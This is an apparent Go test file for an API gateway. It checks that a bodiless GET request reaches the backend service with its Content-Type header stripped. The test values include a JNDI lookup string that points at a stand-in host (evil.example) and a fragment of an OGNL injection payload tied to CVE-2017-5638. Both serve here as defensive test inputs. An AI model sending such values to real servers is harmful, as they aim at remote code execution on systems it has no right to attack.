package gateway_test

import (
	"testing"

	"github.com/gatehouse-api/gatehouse/internal/validate"
)

// Frameworks have run code from the type of a body that was not there
// (CVE-2017-5638): what nobody checks does not go on.
func TestATypeWithoutABodyDoesNotReachTheService(t *testing.T) {
	url, asked := listening(t, nil)
	h := newHouse(t, houseConfig{service: url, waf: coreRules(t), settings: map[string]validate.Settings{"listOrders": {Rules: validate.Enforce}}})
	for _, value := range []string{"application/json", "${jndi:ldap://evil.example/a}", "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"} {
		before := len(asked.all())
		res := h.ask("GET", "/orders?limit=5", "", "Authorization", h.token("ann"), "Content-Type", value)
		got := asked.all()[before:]
		if res.Code != 200 || len(got) != 1 {
			t.Fatalf("%s: answered %d, the service was asked %d times", value, res.Code, len(got))
		}
		if typed := got[0].header["Content-Type"]; typed != nil {
			t.Errorf("the service read Content-Type: %s", typed)
		}
	}
}
